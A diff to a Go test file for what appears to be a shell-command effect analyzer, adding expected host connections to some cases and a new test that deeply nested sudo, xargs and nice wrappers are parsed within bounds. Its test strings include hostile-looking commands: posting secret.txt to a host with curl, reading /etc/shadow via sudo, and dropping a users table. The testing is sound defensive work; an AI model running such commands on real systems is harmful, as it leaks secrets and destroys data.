@@ -46,8 +46,8 @@ func TestCommandLinesAreRead(t *testing.T) {
 			"command:curl -d @secret.txt http://h:8080/x", "file.read:/work/secret.txt", "host.post:h:8080",
 		},
 		"ssh -p 2222 bob@h.example uptime": {"command:ssh -p 2222 bob@h.example uptime", "host.connect:h.example:22", "command:uptime"},
-		"git -C x push --force":            {"command:git -C x push --force", "command:git push --force"},
-		"psql -c 'drop table users'":       {"command:psql -c 'drop table users'", "sql.drop:users"},
+		"git -C x push --force":            {"command:git -C x push --force", "host.connect:", "command:git push --force"},
+		"psql -c 'drop table users'":       {"command:psql -c 'drop table users'", "sql.drop:users", "host.connect:"},
 		"sudo -u root env A=1 nice -n 5 cat /etc/shadow": {
 			"command:sudo -u root env A=1 nice -n 5 cat /etc/shadow", "command:env A=1 nice -n 5 cat /etc/shadow", "command:nice -n 5 cat /etc/shadow", "command:cat /etc/shadow", "file.read:/etc/shadow",
 		},
@@ -161,6 +161,24 @@ func TestWhatCannotBeKnownOfAFileIsUnknown(t *testing.T) {
 		}
 		if !unknown {
 			t.Errorf("%q is read as %q", text, got)
+		}
+	}
+}
+
+// TestWordsThatMayEachBeginACommandAreReadWithinBounds: without a bound, each word of these
+// lines is read once for every way to reach it, which takes longer than anybody waits.
+func TestWordsThatMayEachBeginACommandAreReadWithinBounds(t *testing.T) {
+	t.Parallel()
+	for _, argv := range [][]string{
+		strings.Fields(strings.Repeat("sudo --w ", 60)),
+		strings.Fields(strings.Repeat("xargs --w env --w ", 800)),
+		append([]string{"sudo", "--w"}, strings.Fields(strings.Repeat("nice ", 1<<18))...),
+	} {
+		if got := effects.ReadArgs(argv, "/work"); !seesRM(got) {
+			t.Errorf("%d words are read as %q", len(argv), shellLines(got))
+		}
+		if got := effects.ReadShell(strings.Join(argv, " "), "/work"); !seesRM(got) {
+			t.Errorf("a line of %d words is read as %q", len(argv), shellLines(got))
 		}
 	}
 }
